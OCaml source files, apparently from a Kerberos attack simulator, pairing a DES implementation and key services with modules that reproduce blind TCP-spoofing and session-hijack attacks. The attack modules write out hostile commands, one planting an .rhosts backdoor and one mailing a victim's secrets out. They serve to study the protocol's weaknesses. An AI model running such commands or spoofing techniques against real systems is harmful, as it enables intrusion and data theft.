  [| 40; 8; 48; 16; 56; 24; 64; 32;
     39; 7; 47; 15; 55; 23; 63; 31;
     38; 6; 46; 14; 54; 22; 62; 30;
     37; 5; 45; 13; 53; 21; 61; 29;
     36; 4; 44; 12; 52; 20; 60; 28;
     35; 3; 43; 11; 51; 19; 59; 27;
     34; 2; 42; 10; 50; 18; 58; 26;
     33; 1; 41;  9; 49; 17; 57; 25 |]

let expansion =
  [| 32;  1;  2;  3;  4;  5;
      4;  5;  6;  7;  8;  9;
      8;  9; 10; 11; 12; 13;
     12; 13; 14; 15; 16; 17;
     16; 17; 18; 19; 20; 21;
     20; 21; 22; 23; 24; 25;
     24; 25; 26; 27; 28; 29;
     28; 29; 30; 31; 32;  1 |]

let p_permutation =
  [| 16;  7; 20; 21;
     29; 12; 28; 17;
      1; 15; 23; 26;
      5; 18; 31; 10;
      2;  8; 24; 14;
     32; 27;  3;  9;
     19; 13; 30;  6;
     22; 11;  4; 25 |]

let pc1 =
  [| 57; 49; 41; 33; 25; 17;  9;
      1; 58; 50; 42; 34; 26; 18;
     10;  2; 59; 51; 43; 35; 27;
     19; 11;  3; 60; 52; 44; 36;
     63; 55; 47; 39; 31; 23; 15;
      7; 62; 54; 46; 38; 30; 22;
     14;  6; 61; 53; 45; 37; 29;
     21; 13;  5; 28; 20; 12;  4 |]

let pc2 =
  [| 14; 17; 11; 24;  1;  5;
      3; 28; 15;  6; 21; 10;
     23; 19; 12;  4; 26;  8;
     16;  7; 27; 20; 13;  2;
     41; 52; 31; 37; 47; 55;
     30; 40; 51; 45; 33; 48;
     44; 49; 39; 56; 34; 53;
     46; 42; 50; 36; 29; 32 |]

let rotations = [| 1; 1; 2; 2; 2; 2; 2; 2; 1; 2; 2; 2; 2; 2; 2; 1 |]

let sboxes =
  [| (* S1 *)
     [| 14;  4; 13;  1;  2; 15; 11;  8;  3; 10;  6; 12;  5;  9;  0;  7;
         0; 15;  7;  4; 14;  2; 13;  1; 10;  6; 12; 11;  9;  5;  3;  8;
         4;  1; 14;  8; 13;  6;  2; 11; 15; 12;  9;  7;  3; 10;  5;  0;
        15; 12;  8;  2;  4;  9;  1;  7;  5; 11;  3; 14; 10;  0;  6; 13 |];
     (* S2 *)
     [| 15;  1;  8; 14;  6; 11;  3;  4;  9;  7;  2; 13; 12;  0;  5; 10;
         3; 13;  4;  7; 15;  2;  8; 14; 12;  0;  1; 10;  6;  9; 11;  5;
         0; 14;  7; 11; 10;  4; 13;  1;  5;  8; 12;  6;  9;  3;  2; 15;
        13;  8; 10;  1;  3; 15;  4;  2; 11;  6;  7; 12;  0;  5; 14;  9 |];
     (* S3 *)
     [| 10;  0;  9; 14;  6;  3; 15;  5;  1; 13; 12;  7; 11;  4;  2;  8;
        13;  7;  0;  9;  3;  4;  6; 10;  2;  8;  5; 14; 12; 11; 15;  1;
        13;  6;  4;  9;  8; 15;  3;  0; 11;  1;  2; 12;  5; 10; 14;  7;
         1; 10; 13;  0;  6;  9;  8;  7;  4; 15; 14;  3; 11;  5;  2; 12 |];
     (* S4 *)
     [|  7; 13; 14;  3;  0;  6;  9; 10;  1;  2;  8;  5; 11; 12;  4; 15;
        13;  8; 11;  5;  6; 15;  0;  3;  4;  7;  2; 12;  1; 10; 14;  9;
        10;  6;  9;  0; 12; 11;  7; 13; 15;  1;  3; 14;  5;  2;  8;  4;
         3; 15;  0;  6; 10;  1; 13;  8;  9;  4;  5; 11; 12;  7;  2; 14 |];
     (* S5 *)
     [|  2; 12;  4;  1;  7; 10; 11;  6;  8;  5;  3; 15; 13;  0; 14;  9;
        14; 11;  2; 12;  4;  7; 13;  1;  5;  0; 15; 10;  3;  9;  8;  6;
         4;  2;  1; 11; 10; 13;  7;  8; 15;  9; 12;  5;  6;  3;  0; 14;
        11;  8; 12;  7;  1; 14;  2; 13;  6; 15;  0;  9; 10;  4;  5;  3 |];
     (* S6 *)
     [| 12;  1; 10; 15;  9;  2;  6;  8;  0; 13;  3;  4; 14;  7;  5; 11;
        10; 15;  4;  2;  7; 12;  9;  5;  6;  1; 13; 14;  0; 11;  3;  8;
         9; 14; 15;  5;  2;  8; 12;  3;  7;  0;  4; 10;  1; 13; 11;  6;
         4;  3;  2; 12;  9;  5; 15; 10; 11; 14;  1;  7;  6;  0;  8; 13 |];
     (* S7 *)
     [|  4; 11;  2; 14; 15;  0;  8; 13;  3; 12;  9;  7;  5; 10;  6;  1;
        13;  0; 11;  7;  4;  9;  1; 10; 14;  3;  5; 12;  2; 15;  8;  6;
         1;  4; 11; 13; 12;  3;  7; 14; 10; 15;  6;  8;  0;  5;  9;  2;
         6; 11; 13;  8;  1;  4; 10;  7;  9;  5;  0; 15; 14;  2;  3; 12 |];
     (* S8 *)
     [| 13;  2;  8;  4;  6; 15; 11;  1; 10;  9;  3; 14;  5;  0; 12;  7;
         1; 15; 13;  8; 10;  3;  7;  4; 12;  5;  6; 11;  0; 14;  9;  2;
         7; 11;  4;  1;  9; 12; 14;  2;  0;  6; 10; 13; 15;  3;  5;  8;
         2;  1; 14;  7;  4; 10;  8; 13; 15; 12;  9;  0;  3;  5;  6; 11 |] |]

(* [permute table width x]: [x] holds a [width]-bit value right-aligned; the
   result has [Array.length table] bits, where output bit i (1-based from the
   MSB) is input bit [table.(i-1)]. Used by the key schedule and [Reference];
   the block hot path never calls it. *)
let permute table width x =
  let out_width = Array.length table in
  let out = ref 0L in
  for i = 0 to out_width - 1 do
    let bit = Int64.logand (Int64.shift_right_logical x (width - table.(i))) 1L in
    out := Int64.logor (Int64.shift_left !out 1) bit
  done;
  !out

type key = { subkeys : int array; subkeys_rev : int array; raw : bytes }

let block_size = 8

let rotl28 x n =
  let mask = 0xFFFFFFF in
  ((x lsl n) lor (x lsr (28 - n))) land mask

let schedules = ref 0
let schedules_performed () = !schedules
let blocks = ref 0
let blocks_performed () = !blocks

let schedule k =
  if Bytes.length k <> 8 then invalid_arg "Des.schedule: key must be 8 bytes";
  incr schedules;
  let k64 = Bytes.get_int64_be k 0 in
  let cd = Int64.to_int (permute pc1 64 k64) in
  let c = ref ((cd lsr 28) land 0xFFFFFFF) in
  let d = ref (cd land 0xFFFFFFF) in
  let subkeys =
    Array.map
      (fun rot ->
        c := rotl28 !c rot;
        d := rotl28 !d rot;
        let merged = Int64.of_int ((!c lsl 28) lor !d) in
        Int64.to_int (permute pc2 56 merged))
      rotations
  in
  let subkeys_rev = Array.init 16 (fun i -> subkeys.(15 - i)) in
  { subkeys; subkeys_rev; raw = Bytes.copy k }

let key_bytes k = Bytes.copy k.raw

(* --- fused SP tables ---------------------------------------------------

   [sp.(box).(v)] is P(S_box(v)) placed in its 32-bit position: the 6-bit
   S-box input [v] (row from the outer bits, column from the middle four, as
   in the standard) is looked up, the 4-bit output is placed at nibble
   [box] of the 32-bit word, and the P permutation is applied — so the round
   function is eight table lookups and a 7-way or, with no bit-by-bit
   permuting left. *)
let sp =
  Array.init 8 (fun box ->
      Array.init 64 (fun v ->
          let row = ((v lsr 4) land 2) lor (v land 1) in
          let col = (v lsr 1) land 0xF in
          let s = sboxes.(box).((row * 16) + col) in
          let placed = s lsl (4 * (7 - box)) in
          let out = ref 0 in
          for j = 0 to 31 do
            out := (!out lsl 1) lor ((placed lsr (32 - p_permutation.(j))) land 1)
          done;
          !out))

let sp0 = sp.(0) and sp1 = sp.(1) and sp2 = sp.(2) and sp3 = sp.(3)
let sp4 = sp.(4) and sp5 = sp.(5) and sp6 = sp.(6) and sp7 = sp.(7)

(* The E expansion reads eight overlapping 6-bit windows of the cyclic
   sequence bit32, bit1..bit32, bit1. Materialize that sequence once as a
   34-bit word [w]; window [g] is then [(w lsr (28 - 4g)) land 63]. Indices
   into the SP tables are masked with [land 63], so the unsafe gets stay in
   bounds by construction. *)
let feistel r sk =
  let w = ((r land 1) lsl 33) lor (r lsl 1) lor (r lsr 31) in
  Array.unsafe_get sp0 (((w lsr 28) lxor (sk lsr 42)) land 63)
  lor Array.unsafe_get sp1 (((w lsr 24) lxor (sk lsr 36)) land 63)
  lor Array.unsafe_get sp2 (((w lsr 20) lxor (sk lsr 30)) land 63)
  lor Array.unsafe_get sp3 (((w lsr 16) lxor (sk lsr 24)) land 63)
  lor Array.unsafe_get sp4 (((w lsr 12) lxor (sk lsr 18)) land 63)
  lor Array.unsafe_get sp5 (((w lsr 8) lxor (sk lsr 12)) land 63)
  lor Array.unsafe_get sp6 (((w lsr 4) lxor (sk lsr 6)) land 63)
  lor Array.unsafe_get sp7 ((w lxor sk) land 63)

type halves = { mutable hi : int; mutable lo : int }

(* One full DES block on 32-bit halves: the five-swap IP network, sixteen
   unrolled Feistel rounds (only the R chain is materialized; L_i = R_{i-1}),
   the R16/L16 pre-output swap, and the inverse swap network for FP. All
   values are immediate ints; nothing is allocated. *)
let crypt_halves sk st =
  incr blocks;
  let l = st.hi and r = st.lo in
  (* IP *)
  let t = ((l lsr 4) lxor r) land 0x0f0f0f0f in
  let r = r lxor t and l = l lxor (t lsl 4) in
  let t = ((l lsr 16) lxor r) land 0x0000ffff in
  let r = r lxor t and l = l lxor (t lsl 16) in
  let t = ((r lsr 2) lxor l) land 0x33333333 in
  let l = l lxor t and r = r lxor (t lsl 2) in
  let t = ((r lsr 8) lxor l) land 0x00ff00ff in
  let l = l lxor t and r = r lxor (t lsl 8) in
  let t = ((l lsr 1) lxor r) land 0x55555555 in
  let r = r lxor t and l = l lxor (t lsl 1) in
  (* 16 rounds *)
  let r1 = l lxor feistel r (Array.unsafe_get sk 0) in
  let r2 = r lxor feistel r1 (Array.unsafe_get sk 1) in
  let r3 = r1 lxor feistel r2 (Array.unsafe_get sk 2) in
  let r4 = r2 lxor feistel r3 (Array.unsafe_get sk 3) in
  let r5 = r3 lxor feistel r4 (Array.unsafe_get sk 4) in
  let r6 = r4 lxor feistel r5 (Array.unsafe_get sk 5) in
  let r7 = r5 lxor feistel r6 (Array.unsafe_get sk 6) in
  let r8 = r6 lxor feistel r7 (Array.unsafe_get sk 7) in
  let r9 = r7 lxor feistel r8 (Array.unsafe_get sk 8) in
  let r10 = r8 lxor feistel r9 (Array.unsafe_get sk 9) in
  let r11 = r9 lxor feistel r10 (Array.unsafe_get sk 10) in
  let r12 = r10 lxor feistel r11 (Array.unsafe_get sk 11) in
  let r13 = r11 lxor feistel r12 (Array.unsafe_get sk 12) in
  let r14 = r12 lxor feistel r13 (Array.unsafe_get sk 13) in
  let r15 = r13 lxor feistel r14 (Array.unsafe_get sk 14) in
  let r16 = r14 lxor feistel r15 (Array.unsafe_get sk 15) in
  (* pre-output block is R16 L16 *)
  let l = r16 and r = r15 in
  (* FP = IP^-1: the same swaps, reversed *)
  let t = ((l lsr 1) lxor r) land 0x55555555 in
  let r = r lxor t and l = l lxor (t lsl 1) in
  let t = ((r lsr 8) lxor l) land 0x00ff00ff in
  let l = l lxor t and r = r lxor (t lsl 8) in
  let t = ((r lsr 2) lxor l) land 0x33333333 in
  let l = l lxor t and r = r lxor (t lsl 2) in
  let t = ((l lsr 16) lxor r) land 0x0000ffff in
  let r = r lxor t and l = l lxor (t lsl 16) in
  let t = ((l lsr 4) lxor r) land 0x0f0f0f0f in
  let r = r lxor t and l = l lxor (t lsl 4) in
  st.hi <- l;
  st.lo <- r

let encrypt_halves key st = crypt_halves key.subkeys st
let decrypt_halves key st = crypt_halves key.subkeys_rev st

let crypt_i64 sk x =
  let st =
    { hi = Int64.to_int (Int64.shift_right_logical x 32);
      lo = Int64.to_int (Int64.logand x 0xFFFFFFFFL) }
  in
  crypt_halves sk st;
  Int64.logor (Int64.shift_left (Int64.of_int st.hi) 32) (Int64.of_int st.lo)

let encrypt_block_i64 key x = crypt_i64 key.subkeys x
let decrypt_block_i64 key x = crypt_i64 key.subkeys_rev x

let crypt_block sk block =
  if Bytes.length block <> 8 then invalid_arg "Des: block must be 8 bytes";
  let st =
    { hi = (Bytes.get_uint16_be block 0 lsl 16) lor Bytes.get_uint16_be block 2;
      lo = (Bytes.get_uint16_be block 4 lsl 16) lor Bytes.get_uint16_be block 6 }
  in
  crypt_halves sk st;
  let out = Bytes.create 8 in
  Bytes.set_uint16_be out 0 (st.hi lsr 16);
  Bytes.set_uint16_be out 2 (st.hi land 0xffff);
  Bytes.set_uint16_be out 4 (st.lo lsr 16);
  Bytes.set_uint16_be out 6 (st.lo land 0xffff);
  out

let encrypt_block key block = crypt_block key.subkeys block
let decrypt_block key block = crypt_block key.subkeys_rev block

module Reference = struct
  (* The original bit-by-bit implementation: a generic [permute] per
     component per round. Kept verbatim as the semantic anchor for the
     table-driven path above. *)

  let f_function r subkey =
    let e = Int64.logxor (permute expansion 32 r) subkey in
    let out = ref 0L in
    for box = 0 to 7 do
      let six =
        Int64.to_int (Int64.logand (Int64.shift_right_logical e ((7 - box) * 6)) 0x3FL)
      in
      let row = ((six lsr 4) land 2) lor (six land 1) in
      let col = (six lsr 1) land 0xF in
      let s = sboxes.(box).((row * 16) + col) in
      out := Int64.logor (Int64.shift_left !out 4) (Int64.of_int s)
    done;
    permute p_permutation 32 !out

  let crypt_block subkey_order key block =
    if Bytes.length block <> 8 then invalid_arg "Des: block must be 8 bytes";
    let b = Bytes.get_int64_be block 0 in
    let ip = permute initial_permutation 64 b in
    let l = ref (Int64.shift_right_logical ip 32) in
    let r = ref (Int64.logand ip 0xFFFFFFFFL) in
    for i = 0 to 15 do
      let sk = Int64.of_int key.subkeys.(subkey_order i) in
      let next_r = Int64.logand (Int64.logxor !l (f_function !r sk)) 0xFFFFFFFFL in
      l := !r;
      r := next_r
    done;
    (* Pre-output block is R16 L16 (the halves are swapped). *)
    let preout = Int64.logor (Int64.shift_left !r 32) !l in
    let out = Bytes.create 8 in
    Bytes.set_int64_be out 0 (permute final_permutation 64 preout);
    out

  let encrypt_block key block = crypt_block (fun i -> i) key block
  let decrypt_block key block = crypt_block (fun i -> 15 - i) key block
end

let fix_parity k =
  let out = Bytes.copy k in
  for i = 0 to Bytes.length out - 1 do
    let c = Char.code (Bytes.get out i) in
    let ones = ref 0 in
    for bit = 1 to 7 do
      if (c lsr bit) land 1 = 1 then incr ones
    done;
    (* Odd parity: low bit completes an odd popcount. *)
    let low = if !ones mod 2 = 0 then 1 else 0 in
    Bytes.set out i (Char.chr ((c land 0xFE) lor low))
  done;
  out

let weak_keys =
  List.map Util.Bytesutil.of_hex
    [ "0101010101010101"; "fefefefefefefefe"; "e0e0e0e0f1f1f1f1";
      "1f1f1f1f0e0e0e0e";
      (* semi-weak pairs *)
      "011f011f010e010e"; "1f011f010e010e01"; "01e001e001f101f1";
      "e001e001f101f101"; "01fe01fe01fe01fe"; "fe01fe01fe01fe01";
      "1fe01fe00ef10ef1"; "e01fe01ff10ef10e"; "1ffe1ffe0efe0efe";
      "fe1ffe1ffe0efe0e"; "e0fee0fef1fef1fe"; "fee0fee0fef1fef1" ]

let is_weak k =
  let k = fix_parity k in
  List.exists (fun w -> Bytes.equal w k) weak_keys

let rec random_key rng =
  let k = fix_parity (Util.Rng.bytes rng 8) in
  if is_weak k then random_key rng else k

(* --- schedule cache ------------------------------------------------------

   [schedule (fix_parity k)] costs two bit-by-bit permutes plus sixteen
   rotate-and-permute rounds — far more than enciphering the short messages
   Kerberos actually sends. Long-lived keys (principal keys, session keys,
   the TGS key) are scheduled over and over at every sealing site, so a
   small memo table keyed on the raw key bytes removes the work entirely.
   The cache is semantically invisible: a hit returns a schedule equal to
   what [schedule (fix_parity k)] would rebuild, and the toggle exists so
   the equivalence tests and bench ablations can prove it. *)

let cache_enabled = ref true
let cache : (string, key) Hashtbl.t = Hashtbl.create 1024

(* Beyond this the workload is churning through one-shot keys and memoizing
   stops paying; dropping the table keeps memory bounded at ~
   [max_cache_entries * (2 schedules + raw)] and correctness is unaffected. *)
let max_cache_entries = 65_536

let set_schedule_cache on =
  cache_enabled := on;
  if not on then Hashtbl.reset cache

let schedule_cache_enabled () = !cache_enabled

let schedule_cached k =
  if not !cache_enabled then schedule (fix_parity k)
  else
    let id = Bytes.to_string k in
    match Hashtbl.find_opt cache id with
    | Some sk -> sk
    | None ->
        if Hashtbl.length cache >= max_cache_entries then Hashtbl.reset cache;
        let sk = schedule (fix_parity k) in
        Hashtbl.add cache id sk;
        sk
