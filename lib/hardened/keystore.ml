type t = {
  store : (string * string, bytes) Hashtbl.t;  (** (principal, label) -> blob *)
  rng : Util.Rng.t;
}

let stored_count t = Hashtbl.length t.store

let split_cmd s =
  match String.index_opt s ' ' with
  | None -> (s, "")
  | Some i -> (String.sub s 0 i, String.sub s (i + 1) (String.length s - i - 1))

let handle t _session ~client data =
  let who = Kerberos.Principal.to_string client in
  let cmd, rest = split_cmd (Bytes.to_string data) in
  match cmd with
  | "PUT" ->
      let label, blob = split_cmd rest in
      Hashtbl.replace t.store (who, label) (Bytes.of_string blob);
      Some (Bytes.of_string "OK")
  | "GET" -> (
      match Hashtbl.find_opt t.store (who, rest) with
      | Some blob -> Some (Bytes.cat (Bytes.of_string "OK ") blob)
      | None -> Some (Bytes.of_string "ERR no such blob"))
  | "NEWKEY" -> Some (Bytes.cat (Bytes.of_string "OK ") (Crypto.Des.random_key t.rng))
  | _ -> Some (Bytes.of_string "ERR bad command")

let install ?config net host ~profile ~principal ~key ~port =
  let t = { store = Hashtbl.create 16; rng = Util.Rng.create 0x4b53L } in
  let (_ : Kerberos.Apserver.t) =
    Kerberos.Apserver.install ?config net host ~profile ~principal ~key ~port
      ~handler:(Services.Svc_telemetry.instrument net ~component:"keystore" (handle t))
      ()
  in
  t

let put client chan ~label blob ~k =
  let msg = Bytes.cat (Bytes.of_string (Printf.sprintf "PUT %s " label)) blob in
  Kerberos.Client.call_priv client chan msg ~k:(fun r ->
      match r with
      | Error e -> k (Error e)
      | Ok data ->
          if Bytes.to_string data = "OK" then k (Ok ())
          else k (Error (Bytes.to_string data)))

let get client chan ~label ~k =
  Kerberos.Client.call_priv client chan (Bytes.of_string ("GET " ^ label)) ~k:(fun r ->
      match r with
      | Error e -> k (Error e)
      | Ok data ->
          if Bytes.length data >= 3 && Bytes.to_string (Bytes.sub data 0 3) = "OK " then
            k (Ok (Bytes.sub data 3 (Bytes.length data - 3)))
          else k (Error (Bytes.to_string data)))

let fresh_key client chan ~k =
  Kerberos.Client.call_priv client chan (Bytes.of_string "NEWKEY") ~k:(fun r ->
      match r with
      | Error e -> k (Error e)
      | Ok data ->
          if Bytes.length data = 11 && Bytes.to_string (Bytes.sub data 0 3) = "OK " then
            k (Ok (Bytes.sub data 3 8))
          else k (Error (Bytes.to_string data)))
