type purpose = Login | Tgs_session | Service_session | Service_key | Master

let purpose_to_string = function
  | Login -> "login"
  | Tgs_session -> "tgs-session"
  | Service_session -> "service-session"
  | Service_key -> "service-key"
  | Master -> "master"

type handle = int

exception Purpose_violation of string

type slot = { key : bytes; purpose : purpose }

type t = {
  rng : Util.Rng.t;
  slots : (handle, slot) Hashtbl.t;
  mutable next : handle;
  mutable log : string list;  (** reverse chronological *)
}

let create ?(seed = 0x424f58L) () =
  { rng = Util.Rng.create seed; slots = Hashtbl.create 8; next = 1; log = [] }

let add t purpose key =
  let h = t.next in
  t.next <- t.next + 1;
  Hashtbl.replace t.slots h { key; purpose };
  h

let install_key t purpose key = add t purpose (Bytes.copy key)
let generate_key t purpose = add t purpose (Crypto.Des.random_key t.rng)

let violation t msg =
  t.log <- msg :: t.log;
  (* Purpose violations are exactly what an operator wants surfaced: count
     them and leave a Warn in the trace (default collector — the box has
     no network handle). *)
  let tel = Telemetry.Collector.default () in
  Telemetry.Metrics.incr
    (Telemetry.Metrics.counter (Telemetry.Collector.metrics tel)
       "encbox.purpose_violations");
  Telemetry.Collector.event tel ~severity:Telemetry.Trace.Warn ~component:"encbox"
    ~kind:"encbox.violation"
    [ ("msg", msg) ];
  raise (Purpose_violation msg)

let slot t h =
  match Hashtbl.find_opt t.slots h with
  | Some s -> s
  | None -> violation t "unknown key handle"

let require t h wanted op =
  let s = slot t h in
  if s.purpose <> wanted then
    violation t
      (Printf.sprintf "%s: %s key used where %s required" op
         (purpose_to_string s.purpose) (purpose_to_string wanted));
  s.key

let absorb_rep_body t ~profile ~with_key ~new_purpose ~tag blob =
  let open Kerberos in
  let wanted =
    if tag = Messages.tag_as_rep_body then Login
    else if tag = Messages.tag_rep_body then Tgs_session
    else violation t "absorb_rep_body: unknown reply tag"
  in
  let key = require t with_key wanted "absorb_rep_body" in
  match Messages.open_msg profile ~key ~tag blob with
  | Error e -> Error e
  | Ok v -> (
      match Messages.rep_body_of_value ~tag profile.Profile.encoding v with
      | exception Wire.Codec.Decode_error e -> Error e
      | body ->
          let h = add t new_purpose body.b_session_key in
          Ok (h, { body with Messages.b_session_key = Bytes.make 8 '\000' }))

let seal_authenticator t ~profile ~with_key auth =
  let s = slot t with_key in
  (match s.purpose with
  | Tgs_session | Service_session -> ()
  | p ->
      violation t
        (Printf.sprintf "seal_authenticator: %s key refused" (purpose_to_string p)));
  Kerberos.Messages.seal_msg profile t.rng ~key:s.key
    ~tag:Kerberos.Messages.tag_authenticator
    (Kerberos.Messages.authenticator_to_value auth)

let absorb_sealed_key t ~profile ~with_key ~new_purpose blob =
  let key = require t with_key Service_session "absorb_sealed_key" in
  match Kerberos.Seal.open_ (Kerberos.Seal.of_profile profile) ~key blob with
  | Error e -> Error e
  | Ok material ->
      if Bytes.length material <> 8 then Error "not a DES key"
      else Ok (add t new_purpose (Crypto.Des.fix_parity material))

let encrypt_block t ~with_key ~require:wanted data =
  (match wanted with
  | Login | Master ->
      violation t "encrypt_block: login/master keys have no generic operations"
  | _ -> ());
  let key = require t with_key wanted "encrypt_block" in
  Crypto.Des.encrypt_block (Crypto.Des.schedule (Crypto.Des.fix_parity key)) data

let audit t = List.rev t.log
let handles_live t = Hashtbl.length t.slots
