open Kerberos

type result = {
  isn_predictable : bool;
  handshake_completed : bool;
  executed_as_victim : bool;
}

let rsh_port = 514
let evil_command = "echo darkstar.mit.edu robin >> /u/pat/.rhosts"

let run ?(seed = 0xE8BL) ?(isn = Sim.Tcpish.Predictable) ~profile () =
  let bed = Testbed.make ~seed ~profile () in
  let rsh_principal = Principal.service ~realm:"ATHENA" "rsh" ~host:"fs1" in
  let rsh_key = Crypto.Des.random_key bed.rng in
  Kdb.add_service bed.db rsh_principal ~key:rsh_key;
  let daemon =
    Services.Rsh.install bed.net bed.file_host ~profile ~principal:rsh_principal
      ~key:rsh_key ~port:rsh_port ~isn ()
  in
  (* The victim uses rsh legitimately, exposing a live authenticator. *)
  Client.login bed.victim ~password:bed.victim_password (fun r ->
      ignore (Testbed.expect "login" r);
      Client.get_ticket bed.victim ~service:rsh_principal (fun r ->
          let creds = Testbed.expect "rsh ticket" r in
          Services.Rsh.run_command bed.victim creds
            ~dst:(Sim.Host.primary_ip bed.file_host) ~dport:rsh_port ~cmd:"ls"
            ~k:(fun r -> ignore (Testbed.expect "rsh run" r))));
  Testbed.run bed;
  (* Steal the AP_REQ frame from the victim's session (the first non-empty
     data segment to the rsh port). *)
  let ap_frame =
    List.find_map
      (fun p ->
        match Sim.Tcpish.decode_segment p.Sim.Packet.payload with
        | Some seg
          when Bytes.length seg.Sim.Tcpish.body > 0 && p.Sim.Packet.dport = rsh_port
          -> (
            match Frames.unwrap seg.Sim.Tcpish.body with
            | Some (k, _) when k = Frames.ap_req -> Some seg.Sim.Tcpish.body
            | _ -> None)
        | _ -> None)
      (Sim.Adversary.captured bed.adv)
  in
  let ap_frame =
    match ap_frame with
    | Some b -> b
    | None -> failwith "morris: no authenticator captured"
  in
  (* The blind, one-way conversation. Every packet is spoofed from the
     victim's address; nothing the server sends back ever reaches us. *)
  let srv = Sim.Host.primary_ip bed.file_host in
  let vic = Testbed.victim_addr bed in
  let sport = 40777 in
  let my_isn = 5000 in
  let seg ?(syn = false) ?(ack = false) ~seq ~ackno body =
    Sim.Tcpish.encode_segment
      { Sim.Tcpish.syn; ack; fin = false; rst = false; seq; ackno; body }
  in
  let spoof payload =
    Sim.Adversary.spoof bed.adv ~src:vic ~sport ~dst:srv ~dport:rsh_port payload
  in
  let lat = 0.005 in
  (* Predict NOW what ISN the server will pick when the SYN arrives. *)
  let predicted = Sim.Tcpish.predict_isn bed.net isn in
  spoof (seg ~syn:true ~seq:my_isn ~ackno:0 Bytes.empty);
  Sim.Engine.schedule_after bed.eng (3.0 *. lat) (fun () ->
      spoof (seg ~ack:true ~seq:(my_isn + 1) ~ackno:((predicted + 1) land 0x7FFFFFFF) Bytes.empty));
  Sim.Engine.schedule_after bed.eng (5.0 *. lat) (fun () ->
      spoof (seg ~seq:(my_isn + 1) ~ackno:0 ap_frame));
  Sim.Engine.schedule_after bed.eng (7.0 *. lat) (fun () ->
      spoof
        (seg ~seq:((my_isn + 1 + Bytes.length ap_frame) land 0x7FFFFFFF) ~ackno:0
           (Bytes.of_string evil_command)));
  Testbed.run bed;
  let executed =
    List.exists
      (fun (cmd, who) -> cmd = evil_command && who = "pat@ATHENA")
      (Services.Rsh.executed daemon)
  in
  (* Handshake completion is visible in whether the AP_REQ was even
     processed — approximate: executed implies completed; otherwise check
     the rsh log for any extra entries. *)
  { isn_predictable = (isn = Sim.Tcpish.Predictable);
    handshake_completed = executed;
    executed_as_victim = executed }

let outcome r =
  if r.executed_as_victim then
    Outcome.broken
      "blind spoofed connection + stolen live authenticator: command ran as the victim"
  else if r.isn_predictable then
    Outcome.defended "handshake completed blind but the protocol demanded a challenge"
  else Outcome.defended "random ISN: the blind ACK guessed wrong"
