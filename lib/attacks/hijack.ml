open Kerberos

type result = {
  victim_command : string;
  injected_command : string;
  executed_as_victim : bool;
}

let victim_command = "make world"
let injected_command = "cat /u/pat/.secrets | mail robin"

let rsh_port = 514

let run ?(seed = 0xE8AL) ~profile () =
  let bed = Testbed.make ~seed ~profile () in
  let rsh_principal = Principal.service ~realm:"ATHENA" "rsh" ~host:"fs1" in
  let rsh_key = Crypto.Des.random_key bed.rng in
  Kdb.add_service bed.db rsh_principal ~key:rsh_key;
  let daemon =
    Services.Rsh.install bed.net bed.file_host ~profile ~principal:rsh_principal
      ~key:rsh_key ~port:rsh_port ()
  in
  Client.login bed.victim ~password:bed.victim_password (fun r ->
      ignore (Testbed.expect "login" r);
      Client.get_ticket bed.victim ~service:rsh_principal (fun r ->
          let creds = Testbed.expect "rsh ticket" r in
          Services.Rsh.run_command bed.victim creds
            ~dst:(Sim.Host.primary_ip bed.file_host) ~dport:rsh_port
            ~cmd:victim_command
            ~k:(fun r -> ignore (Testbed.expect "rsh run" r))));
  Testbed.run bed;
  (* Reconstruct the connection's sequence state from the captured
     segments, then speak the next one. *)
  let to_server =
    Sim.Adversary.capture_matching bed.adv (fun p -> p.Sim.Packet.dport = rsh_port)
  in
  let next_seq = ref None in
  let conn_src = ref None in
  List.iter
    (fun p ->
      match Sim.Tcpish.decode_segment p.Sim.Packet.payload with
      | Some seg when Bytes.length seg.Sim.Tcpish.body > 0 ->
          next_seq :=
            Some ((seg.Sim.Tcpish.seq + Bytes.length seg.Sim.Tcpish.body) land 0x7FFFFFFF);
          conn_src := Some (p.Sim.Packet.src, p.Sim.Packet.sport)
      | _ -> ())
    to_server;
  (match (!next_seq, !conn_src) with
  | Some seq, Some (src, sport) ->
      let seg =
        { Sim.Tcpish.syn = false; ack = false; fin = false; rst = false; seq;
          ackno = 0; body = Bytes.of_string injected_command }
      in
      Sim.Adversary.spoof bed.adv ~src ~sport ~dst:(Sim.Host.primary_ip bed.file_host)
        ~dport:rsh_port (Sim.Tcpish.encode_segment seg)
  | _ -> failwith "hijack: no established connection observed");
  Testbed.run bed;
  let executed =
    List.exists
      (fun (cmd, who) -> cmd = injected_command && who = "pat@ATHENA")
      (Services.Rsh.executed daemon)
  in
  { victim_command; injected_command; executed_as_victim = executed }

let outcome r =
  if r.executed_as_victim then
    Outcome.broken "injected %S executed as the victim after its authentication"
      r.injected_command
  else Outcome.defended "injected segment not accepted"
