type t = {
  store : (string, string * bytes) Hashtbl.t;  (** path -> owner, contents *)
  trusted_hosts : Kerberos.Principal.t list;
      (** host principals whose on-behalf-of assertions are believed — the
          NFS-mount trust model the paper's host-key discussion targets *)
  mutable deleted : (string * string) list;
  mutable log : (string * string) list;
  mutable ap : Kerberos.Apserver.t option;
}

let apserver t = match t.ap with Some a -> a | None -> assert false

let write_file t ~owner ~path data = Hashtbl.replace t.store path (owner, data)
let read_file t path = Option.map snd (Hashtbl.find_opt t.store path)
let files t = Hashtbl.fold (fun p (o, _) acc -> (p, o) :: acc) t.store []
let deletions t = t.deleted

let split_cmd s =
  match String.index_opt s ' ' with
  | None -> (s, "")
  | Some i -> (String.sub s 0 i, String.sub s (i + 1) (String.length s - i - 1))

let request_log t = t.log

let rec handle t session ~client data =
  let who = Kerberos.Principal.to_string client in
  t.log <- (Bytes.to_string data, who) :: t.log;
  let cmd, rest = split_cmd (Bytes.to_string data) in
  let reply s = Some (Bytes.of_string s) in
  match cmd with
  | "READ" -> (
      match read_file t rest with
      | Some contents -> Some contents
      | None -> reply "ERR not found")
  | "WRITE" ->
      let path, contents = split_cmd rest in
      Hashtbl.replace t.store path (who, Bytes.of_string contents);
      reply "OK"
  | "DELETE" ->
      if Hashtbl.mem t.store rest then begin
        Hashtbl.remove t.store rest;
        t.deleted <- (rest, who) :: t.deleted;
        reply "OK"
      end
      else reply "ERR not found"
  | "LIST" ->
      reply (String.concat " " (List.sort compare (List.map fst (files t))))
  | "SUDO" ->
      (* "SUDO <user> <command...>": a trusted host speaking for one of its
         local users, as NFS mounts and cron jobs did. The server has no
         way to check the host's claim — that is the paper's point: "the
         intruder can likely impersonate any user on that computer". *)
      if List.exists (Kerberos.Principal.equal client) t.trusted_hosts then begin
        let user, inner = split_cmd rest in
        handle t session
